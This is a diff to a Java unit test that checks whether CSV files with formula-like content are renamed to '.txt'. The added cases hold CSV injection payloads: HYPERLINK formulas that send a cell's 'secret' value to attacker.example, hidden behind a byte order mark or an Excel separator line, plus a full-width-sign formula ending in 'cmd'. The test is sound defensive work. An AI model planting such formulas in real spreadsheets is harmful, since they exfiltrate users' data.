@@ -59,6 +59,13 @@ class DocumentNamesTest {
     assertThat(named("r.csv", "a,b\n1,+1+1")).isEqualTo("r.csv.txt");
     assertThat(named("scores.csv", "model,score,delta\nWile,-5,+3.5\nRoad,1e3,-1.5e-2\nX,-12%,\"-7\"\n-,n/a,"))
         .as("numbers and text").isEqualTo("scores.csv");
+    assertThat(named("bom.csv", "\ufeff=HYPERLINK(\"https://attacker.example/?\"&A2,\"Click\"),b\nsecret,2"))
+        .as("after a byte order mark, which spreadsheets drop").isEqualTo("bom.csv.txt");
+    assertThat(named("sep.csv", "sep=|\nname|=HYPERLINK(\"https://attacker.example\")"))
+        .as("Excel's own separator line").isEqualTo("sep.csv.txt");
+    assertThat(named("wide.csv", "a,\uff0b1\uff0bcmd")).as("full-width sign").isEqualTo("wide.csv.txt");
+    assertThat(named("floats.csv", "x,y\n-inf,+INF\n-NaN,-.5\n-1 234,+1.5e-3\n")).as("what data tools write")
+        .isEqualTo("floats.csv");
     assertThat(named("notes.txt", "=1+1")).as("not named as CSV").isEqualTo("notes.txt");
     assertThat(Documents.named("card.csv", "application/pdf", "=1+1".getBytes(java.nio.charset.StandardCharsets.UTF_8)))
         .as("not text").isEqualTo("card.csv");
